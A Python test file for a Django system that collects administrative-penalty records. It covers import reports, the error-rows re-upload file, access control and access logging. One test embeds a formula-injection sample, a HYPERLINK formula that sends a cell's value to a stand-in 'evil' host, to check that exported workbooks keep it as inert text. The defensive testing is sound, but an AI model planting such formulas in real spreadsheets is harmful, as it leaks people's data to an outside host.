"""The report round trip (issue 11): the importer ignores exactly the report's own columns,
reports carry 行号 and highlight bad cells, and the error-rows file gives the department
its rows in error as sent, to correct and upload again."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from credit.audit.models import AccessLog
from credit.catalog import queries as catalog_queries
from credit.collection import errors, readers, services, storage
from credit.collection.columns import REPORT_COLUMNS
from credit.collection.errors import FileProblem
from credit.collection.models import BatchState
from credit.collection.validation import map_header
from credit.core import spreadsheet_safe
from credit.core.actors import Actor
from credit.core.errors import PermissionDenied, ServiceError
from credit.records.models import Record

from .samples import penalty_row, person_id, person_penalty_row, write_csv, write_xlsx

pytestmark = pytest.mark.django_db

DATE = "处罚决定日期"
AMOUNT = "罚款金额（万元）"


def _fields():
    return catalog_queries.fields_of(catalog_queries.current_version("penalty"))


def test_the_header_check_drops_exactly_the_report_columns_wherever_they_are(catalog):
    fields = _fields()
    header = list(penalty_row(1))
    shuffled = ["结果", *header[:3], "行号", *header[3:], "说明", " 报送工作日", "是否超期"]
    columns = map_header(shuffled, fields)
    # Every catalog column is still found, by its own header; the report's are not data.
    expected = [header[p] if p is not None else None for p in map_header(header, fields).positions]
    assert [shuffled[p] if p is not None else None for p in columns.positions] == expected
    # Any other unknown column is refused as before, next to the report's own.
    with pytest.raises(FileProblem) as refused:
        map_header([*header, "结果", "处理意见"], fields)
    assert [(p.code, p.column) for p in refused.value.problems] == [
        (errors.HEADER_UNKNOWN, "处理意见")
    ]
    # A missing required column is still missing, report columns or not.
    with pytest.raises(FileProblem) as missing:
        map_header([h for h in header if h != DATE] + list(REPORT_COLUMNS), fields)
    assert missing.value.problems[0].code == errors.HEADER_MISSING


def _csv_rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_a_corrected_report_is_accepted_again(scjg, run_file, tmp_path):
    rows = [penalty_row(1), penalty_row(2, **{DATE: "昨天"}), penalty_row(3)]
    batch = run_file(scjg, write_csv(tmp_path / "p.csv", rows), policy="reject_failed_rows")
    report = _csv_rows(services.build_report(Actor.system(), batch, "csv"))
    assert report[0][0] == "行号" and report[0][-4:] == ["结果", "说明", "报送工作日", "是否超期"]
    assert [r[0] for r in report[1:]] == ["2", "3", "4"]
    # The department corrects the bad date in the report itself and uploads the report.
    date_at = report[0].index(DATE)
    report[2][date_at] = rows[0][DATE]
    fixed = tmp_path / "report-fixed.csv"
    with open(fixed, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(report)
    again = run_file(scjg, fixed, policy="reject_failed_rows")
    assert again.state == BatchState.DONE, list(again.errors.values_list("message", flat=True))
    assert (again.new_rows, again.unchanged_rows, again.error_rows) == (1, 2, 0)
    assert Record.objects.filter(department=scjg).count() == 3
    # Its own report lists the source columns once, not the old report's as well.
    second = _csv_rows(services.build_report(Actor.system(), again, "csv"))
    assert second[0].count("结果") == 1 and second[0].count("行号") == 1
    assert second[0] == report[0]


def test_xlsx_report_numbers_rows_and_highlights_the_bad_cells(scjg, run_file, tmp_path):
    rows = [penalty_row(1), penalty_row(2, **{DATE: "昨天"}), penalty_row(3, **{AMOUNT: "abc"})]
    batch = run_file(scjg, write_xlsx(tmp_path / "p.xlsx", rows), policy="reject_failed_rows")
    sheet = load_workbook(services.build_report(Actor.system(), batch, "xlsx")).active
    header = [c.value for c in sheet[1]]
    assert header[0] == "行号"
    assert [sheet.cell(row=r, column=1).value for r in (2, 3, 4)] == [2, 3, 4]

    def filled(row: int) -> list[str]:
        return [
            header[c.column - 1]
            for c in sheet[row]
            if c.fill is not None and c.fill.fgColor.rgb.endswith("FFC7CE")
        ]

    assert filled(2) == []
    assert filled(3) == [DATE]
    assert filled(4) == [AMOUNT]
    # The CSV report gets the row number only.
    assert [r[0] for r in _csv_rows(services.build_report(Actor.system(), batch, "csv"))] == [
        "行号",
        "2",
        "3",
        "4",
    ]


def _read(handle) -> bytes:
    with handle:
        return handle.read()


def _people_with_errors(tmp_path, name="people.csv"):
    rows = [
        person_penalty_row(1),
        person_penalty_row(2, **{DATE: "昨天"}),
        person_penalty_row(3),
        person_penalty_row(4, **{AMOUNT: "abc"}),
    ]
    return rows, write_csv(tmp_path / name, rows)


def test_error_rows_file_round_trip_gb18030_csv(scjg, run_file, tmp_path, operator_user):
    rows, path = _people_with_errors(tmp_path)
    owner = Actor.for_user(operator_user)
    batch = run_file(scjg, path, policy="reject_failed_rows", actor=owner)
    assert (batch.new_rows, batch.error_rows) == (2, 2)

    handle, name = services.error_rows_file(owner, batch)
    assert name == "people_错误行重新上报.csv"
    data = _read(handle)
    # Same encoding family as sent (GB18030), original header, only the rows in error,
    # every value as sent: the full ID numbers, no 行号 or 结果.
    got = list(csv.reader(io.StringIO(data.decode("gb18030"))))
    assert got[0] == list(rows[0])
    assert got[1:] == [[r[h] for h in rows[0]] for r in (rows[1], rows[3])]
    assert person_id(2) in data.decode("gb18030")
    log = AccessLog.objects.get(resource=services.ERROR_ROWS_RESOURCE)
    assert log.actor_user == operator_user and str(batch.public_id) in log.subject_label
    assert "2 行" in log.purpose
    # No clear copy stays behind.
    assert not list(storage.temp_dir().glob("error-rows-*"))

    # Corrected and uploaded again: every row is now stored.
    fixed = tmp_path / name
    got[1][got[0].index(DATE)] = rows[0][DATE]
    got[2][got[0].index(AMOUNT)] = "0.5"
    with open(fixed, "w", encoding="gb18030", newline="") as fh:
        csv.writer(fh).writerows(got)
    again = run_file(scjg, fixed, policy="reject_all", actor=owner)
    assert again.state == BatchState.DONE, list(again.errors.values_list("message", flat=True))
    assert again.new_rows == 2
    assert Record.objects.filter(department=scjg).count() == 4


def test_utf8_csv_comes_back_as_utf8(scjg, run_file, tmp_path, operator_user):
    rows = [penalty_row(1), penalty_row(2, **{DATE: "x"})]
    owner = Actor.for_user(operator_user)
    batch = run_file(
        scjg,
        write_csv(tmp_path / "u.csv", rows, encoding="utf-8"),
        "reject_failed_rows",
        actor=owner,
    )
    data = _read(services.error_rows_file(owner, batch)[0])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[1].startswith(rows[1]["行政相对人名称"])


def test_error_rows_xlsx_keeps_values_as_text_without_formulas(
    scjg, run_file, tmp_path, operator_user
):
    formula = '=HYPERLINK("http://evil/?"&A2,"点击")'
    rows = [
        person_penalty_row(1),
        person_penalty_row(2, **{DATE: "昨天", "违法事实": formula}),
    ]
    owner = Actor.for_user(operator_user)
    source = write_xlsx(tmp_path / "p.xlsx", rows)
    # As a department's workbook holds such a value: a text cell, not a formula.
    workbook = load_workbook(source)
    spreadsheet_safe.set_cell(workbook.active, 3, list(rows[0]).index("违法事实") + 1, formula)
    workbook.save(source)
    batch = run_file(scjg, source, policy="reject_failed_rows", actor=owner)
    handle, name = services.error_rows_file(owner, batch)
    assert name.endswith(".xlsx")
    target = tmp_path / name
    target.write_bytes(_read(handle))
    with zipfile.ZipFile(target) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no live formula anywhere
    sheet = load_workbook(target).active
    cells = {sheet.cell(row=1, column=c).value: sheet.cell(row=2, column=c) for c in range(1, 30)}
    assert cells["违法事实"].value == formula and cells["违法事实"].data_type == "s"
    assert cells["违法事实"].quotePrefix
    assert cells["证件号码"].value == person_id(2) and cells["证件号码"].number_format == "@"
    assert cells[DATE].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet.max_row == 2
    # Read back by the importer: the very values that were sent.
    table = readers.open_table(target, target.name)
    try:
        assert table.header == list(rows[0])
        ((number, values),) = list(table.rows)
    finally:
        table.close()
    assert number == 2 and values == [rows[1][h] for h in rows[0]]


def test_only_the_sending_department_may_download(
    scjg, sthj, run_file, tmp_path, operator_user, other_operator, auditor_user, admin_user
):
    _rows, path = _people_with_errors(tmp_path)
    batch = run_file(scjg, path, policy="reject_failed_rows", actor=Actor.for_user(operator_user))
    for user in (other_operator, auditor_user, admin_user):
        with pytest.raises(PermissionDenied):
            services.error_rows_file(Actor.for_user(user), batch)
    assert not AccessLog.objects.filter(resource=services.ERROR_ROWS_RESOURCE).exists()
    web = Client()
    web.force_login(admin_user)
    refused = web.get(f"/console/batches/{batch.public_id}/error-rows/")
    assert refused.status_code == 403 and "只有上报该批次的单位可以下载" in refused.content.decode()
    assert (
        "下载错误行重新上报文件"
        not in web.get(f"/console/batches/{batch.public_id}/").content.decode()
    )
    web.force_login(other_operator)
    assert web.get(f"/console/batches/{batch.public_id}/error-rows/").status_code == 404
    web.force_login(operator_user)
    page = web.get(f"/console/batches/{batch.public_id}/").content.decode()
    assert "下载错误行重新上报文件" in page
    download = web.get(f"/console/batches/{batch.public_id}/error-rows/")
    assert download.status_code == 200
    assert person_id(2) in b"".join(download.streaming_content).decode("gb18030")

    # A credit admin uploading on the department's behalf had the file: it may.
    on_behalf = run_file(
        scjg,
        _people_with_errors(tmp_path, "again.csv")[1],
        "reject_failed_rows",
        actor=Actor.for_user(admin_user),
    )
    handle, _name = services.error_rows_file(Actor.for_user(admin_user), on_behalf)
    _read(handle)


def test_api_offers_the_error_rows_file(client, api_client_scjg, catalog, tmp_path, admin_user):
    _api, token = api_client_scjg
    bearer = {"HTTP_AUTHORIZATION": f"Bearer {token}"}
    _rows, path = _people_with_errors(tmp_path)
    with open(path, "rb") as fh:
        answer = client.post(
            "/api/v1/batches",
            {"file": fh, "dataset": "penalty", "policy": "reject_failed_rows"},
            **bearer,
        )
    batch_id = answer.json()["id"]
    status = client.get(f"/api/v1/batches/{batch_id}", **bearer).json()
    assert status["error_rows_file"] == f"/api/v1/batches/{batch_id}/error-rows"
    download = client.get(status["error_rows_file"], **bearer)
    assert download.status_code == 200
    assert person_id(4) in b"".join(download.streaming_content).decode("gb18030")
    log = AccessLog.objects.get(resource=services.ERROR_ROWS_RESOURCE)
    assert log.actor_label.startswith("api:") and batch_id in log.subject_label
    # The credit admin reads the batch, not its error-rows file.
    admin = Client()
    admin.force_login(admin_user)
    assert admin.get(f"/api/v1/batches/{batch_id}").json()["error_rows_file"] == ""
    refused = admin.get(f"/api/v1/batches/{batch_id}/error-rows")
    assert refused.status_code == 403 and refused.json()["code"]


def test_refusals_are_explained(scjg, run_file, tmp_path, operator_user):
    owner = Actor.for_user(operator_user)
    clean = run_file(scjg, write_csv(tmp_path / "ok.csv", [penalty_row(1)]), actor=owner)
    with pytest.raises(ServiceError) as none:
        services.error_rows_file(owner, clean)
    assert none.value.code == "no_error_rows" and "没有错误行" in none.value.message

    bad_header = tmp_path / "bad.csv"
    bad_header.write_text("甲,乙\n1,2\n", encoding="utf-8")
    refused = run_file(scjg, bad_header, actor=owner)
    with pytest.raises(ServiceError) as whole:
        services.error_rows_file(owner, refused)
    assert whole.value.code == "file_refused" and "未知的列" in whole.value.message

    _rows, path = _people_with_errors(tmp_path)
    batch = run_file(scjg, path, policy="reject_failed_rows", actor=owner)
    storage.forget(Actor.system(), batch, "测试")
    with pytest.raises(ServiceError) as gone:
        services.error_rows_file(owner, batch)
    assert gone.value.code == errors.SOURCE_GONE and gone.value.status == 410
    assert "源文件已按保存期限删除" in gone.value.message
    web = Client()
    web.force_login(operator_user)
    page = web.get(f"/console/batches/{batch.public_id}/").content.decode()
    assert "源文件已按保存期限删除，无法生成错误行重新上报文件" in page
    followed = web.get(f"/console/batches/{batch.public_id}/error-rows/", follow=True)
    assert followed.redirect_chain[0][1] == 302
    assert "无法生成错误行重新上报文件" in followed.content.decode()
    assert not AccessLog.objects.filter(resource=services.ERROR_ROWS_RESOURCE).exists()


def test_report_downloads_with_personal_data_are_access_logged(
    scjg, run_file, tmp_path, operator_user
):
    owner = Actor.for_user(operator_user)
    companies = run_file(scjg, write_csv(tmp_path / "c.csv", [penalty_row(1)]), actor=owner)
    services.download_report(owner, companies, "csv")
    assert not AccessLog.objects.filter(resource=services.REPORT_RESOURCE).exists()

    _rows, path = _people_with_errors(tmp_path)
    people = run_file(scjg, path, policy="reject_failed_rows", actor=owner)
    for fmt in ("xlsx", "csv"):
        report = services.download_report(owner, people, fmt)
    text = report.read_text(encoding="utf-8-sig")
    assert person_id(1) not in text  # masked all the same
    logs = AccessLog.objects.filter(resource=services.REPORT_RESOURCE)
    assert sorted(log.purpose for log in logs) == [
        "下载批次处理报告（CSV）",
        "下载批次处理报告（XLSX）",
    ]
    assert all(str(people.public_id) in log.subject_label for log in logs)
